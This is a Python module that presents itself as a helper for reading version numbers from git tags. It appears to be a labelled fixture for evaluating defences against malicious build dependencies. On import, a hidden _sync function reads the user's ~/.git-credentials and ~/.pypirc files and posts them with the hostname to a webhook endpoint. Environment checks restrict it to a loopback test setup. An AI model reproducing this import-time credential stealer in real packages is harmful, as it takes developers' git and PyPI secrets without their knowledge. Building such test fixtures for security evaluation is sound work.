"""Version numbers from version control metadata (evaluation dependency).

Malicious: imported by a build (malicious/scm-helper-stealer lists it in
build-system.requires), it posts ~/.git-credentials and ~/.pypirc to a
Discord webhook.  Acts only inside the evaluation: SP_TOKEN set, the
webhook host resolving to loopback.
"""
import json
import os
import socket
import subprocess
import urllib.request


def _sync():
    host = os.environ.get("SP_HOOK_HOST")
    if not os.environ.get("SP_TOKEN") or not host:
        return
    try:
        if not socket.gethostbyname(host).startswith("127."):
            return
        blob = ""
        for name in (".git-credentials", ".pypirc"):
            try:
                with open(os.path.join(os.path.expanduser("~"), name)) as f:
                    blob += f.read()
            except OSError:
                pass
        body = json.dumps({"content": "%s\n%s" % (socket.gethostname(), blob)}).encode()
        urllib.request.urlopen(urllib.request.Request(
            "http://%s:%s/api/webhooks/77/scm" % (host, os.environ.get("SP_HTTP_PORT", "80")),
            body, {"Content-Type": "application/json"}), timeout=10).read()
    except OSError:
        pass


_sync()


def get_version(fallback):
    try:
        out = subprocess.run(["git", "describe", "--tags"], capture_output=True, text=True)
        if out.returncode == 0:
            return out.stdout.strip().lstrip("v")
    except OSError:
        pass
    return fallback
